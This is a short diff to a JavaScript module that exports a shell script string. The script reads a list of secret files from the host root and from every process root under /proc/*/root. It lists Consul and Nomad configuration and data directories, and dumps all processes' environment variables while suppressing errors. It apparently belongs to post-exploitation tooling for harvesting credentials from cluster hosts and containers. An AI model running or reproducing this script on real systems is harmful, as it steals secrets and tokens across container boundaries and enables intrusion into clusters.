@@ -13,7 +13,7 @@ export const secretFiles = [
 export const reading = `
 gained() { echo "gained $*" | tr a-z A-Z; } # other than in the environment, which has these lines too
 for folder in "" /proc/1/root /proc/[0-9]*/root; do
-    for file in ${secretFiles.join(" ")}; do cat "$folder$file" && echo; done
+    cat ${secretFiles.map((file) => `"$folder${file}"`).join(" ")}
     ls "$folder/etc/consul.d" "$folder/etc/nomad.d" "$folder/var/lib/nomad/client" "$folder/var/lib/consul"
 done 2>/dev/null
 cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'`;
